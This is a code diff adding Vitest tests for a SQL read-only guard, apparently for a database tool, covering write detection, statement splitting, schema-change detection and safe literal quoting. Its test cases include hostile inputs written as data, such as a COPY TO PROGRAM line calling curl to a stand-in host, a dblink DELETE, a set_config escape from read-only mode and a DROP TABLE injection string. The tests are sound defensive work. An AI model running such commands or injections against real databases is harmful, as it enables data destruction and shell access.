@@ -1,5 +1,13 @@
 import { describe, it, expect } from "vitest";
-import { isWriteQuery } from "./query.js";
+import {
+  changesSchema,
+  classifySql,
+  findWriteStatement,
+  inlineSqlParams,
+  isWriteQuery,
+  quoteSqlLiteral,
+  splitSqlStatements,
+} from "./query.js";
 
 describe("isWriteQuery", () => {
   it("returns true for write operations", () => {
@@ -20,8 +28,10 @@ describe("isWriteQuery", () => {
     expect(isWriteQuery("SELECT delete_flag FROM config")).toBe(false);
   });
 
-  it("returns true when write keyword is standalone", () => {
-    expect(isWriteQuery("/* INSERT comment */ SELECT 1")).toBe(true);
+  it("ignores write keywords inside comments and string literals", () => {
+    expect(isWriteQuery("/* INSERT comment */ SELECT 1")).toBe(false);
+    expect(isWriteQuery("SELECT * FROM notes WHERE note = 'please update' -- or delete")).toBe(false);
+    expect(isWriteQuery("SELECT $tag$ DROP TABLE users; $tag$ AS body")).toBe(false);
   });
 
   it("returns false for read-only queries", () => {
@@ -31,3 +41,96 @@ describe("isWriteQuery", () => {
     expect(isWriteQuery("SELECT count(*) FROM logs")).toBe(false);
   });
 });
+
+describe("classifySql", () => {
+  it("catches writes the keyword regex missed", () => {
+    const cases: Array<[string, RegExp]> = [
+      ["COPY users TO PROGRAM 'curl evil.example'", /PROGRAM runs a shell command/],
+      ["DO $$ BEGIN DELETE FROM users; END $$", /DO runs an anonymous code block/],
+      ["SELECT nextval('users_id_seq')", /nextval\(\) has side effects/],
+      ['SELECT "nextval"(\'s\')', /nextval\(\) has side effects/],
+      ["SELECT \"set_config\"('default_transaction_read_only', 'off', false)", /set_config\(\) has side effects/],
+      ["SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)", /set_config\(\) has side effects/],
+      ['SELECT "pg_catalog"."pg_notify"(\'jobs\', \'run\')', /pg_notify\(\) has side effects/],
+      ["SELECT * FROM dblink('dbname=other', 'DELETE FROM users') AS t(x int)", /dblink\(\) has side effects/],
+      ["CALL refresh_totals()", /CALL runs a procedure/],
+      ["VACUUM users", /VACUUM/],
+      ["SET ROLE admin", /SET ROLE/],
+      ["WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone", /data-modifying DELETE/],
+      ["WITH src AS (SELECT 1 AS id) INSERT INTO t SELECT id FROM src", /INSERT modifies data/],
+      ["SELECT * INTO backup FROM users", /SELECT INTO/],
+      ["SELECT * FROM users FOR UPDATE", /row locks/],
+      ["EXPLAIN ANALYZE DELETE FROM users", /EXPLAIN ANALYZE executes/],
+    ];
+    for (const [sql, reason] of cases) {
+      expect(findWriteStatement(sql)?.reason, sql).toMatch(reason);
+    }
+  });
+
+  it("allows reads, plain EXPLAIN, COPY TO STDOUT and session settings", () => {
+    for (const sql of [
+      "EXPLAIN DELETE FROM users",
+      "COPY (SELECT * FROM users) TO STDOUT",
+      "SET search_path TO app, public",
+      "SHOW server_version",
+      "BEGIN; SELECT 1; COMMIT",
+      "(SELECT 1) UNION (SELECT 2)",
+    ]) {
+      expect(findWriteStatement(sql), sql).toBeUndefined();
+    }
+  });
+
+  it("splits multi-statement input and reports which statement writes", () => {
+    const sql = "SELECT 1;\n-- tidy up\nTRUNCATE logs; SELECT ';'";
+
+    expect(splitSqlStatements(sql)).toEqual(["SELECT 1", "TRUNCATE logs", "SELECT ';'"]);
+    expect(classifySql(sql).map(({ command, index, writes }) => ({ command, index, writes }))).toEqual([
+      { command: "SELECT", index: 0, writes: false },
+      { command: "TRUNCATE", index: 1, writes: true },
+      { command: "SELECT", index: 2, writes: false },
+    ]);
+  });
+
+  it("fails closed on statements it does not recognize", () => {
+    expect(findWriteStatement("FROBNICATE everything")?.reason).toBe("FROBNICATE is not a recognized read-only statement");
+  });
+});
+
+describe("changesSchema", () => {
+  it("detects DDL in any statement", () => {
+    expect(changesSchema("SELECT 1; ALTER TABLE users ADD COLUMN nickname text")).toBe(true);
+    expect(changesSchema("comment on table users is 'people'")).toBe(true);
+    expect(changesSchema("INSERT INTO users (id) VALUES (1)")).toBe(false);
+    expect(changesSchema("SELECT 'DROP TABLE users'")).toBe(false);
+  });
+});
+
+describe("quoteSqlLiteral", () => {
+  it("quotes strings safely regardless of standard_conforming_strings", () => {
+    expect(quoteSqlLiteral("O'Brien")).toBe("'O''Brien'");
+    expect(quoteSqlLiteral("a\\'; DROP TABLE users; --")).toBe("E'a\\\\''; DROP TABLE users; --'");
+    expect(quoteSqlLiteral(null)).toBe("NULL");
+    expect(quoteSqlLiteral(false)).toBe("FALSE");
+    expect(quoteSqlLiteral(42.5)).toBe("42.5");
+    expect(quoteSqlLiteral(-3)).toBe("(-3)");
+  });
+
+  it("rejects values that cannot be represented", () => {
+    expect(() => quoteSqlLiteral(Number.NaN)).toThrow(/NaN/);
+    expect(() => quoteSqlLiteral("a\0b")).toThrow(/NUL/);
+  });
+});
+
+describe("inlineSqlParams", () => {
+  it("replaces only parameter tokens", () => {
+    expect(inlineSqlParams("SELECT '$1', $1, $2 -- $2", ["it's", 7])).toBe("SELECT '$1', 'it''s', 7 -- $2");
+  });
+
+  it("keeps negative numbers from turning into comments", () => {
+    expect(inlineSqlParams("SELECT 5-$1", [-3])).toBe("SELECT 5-(-3)");
+  });
+
+  it("fails when a parameter is missing", () => {
+    expect(() => inlineSqlParams("SELECT $2", ["x"])).toThrow(/\$2 but only 1 parameter/);
+  });
+});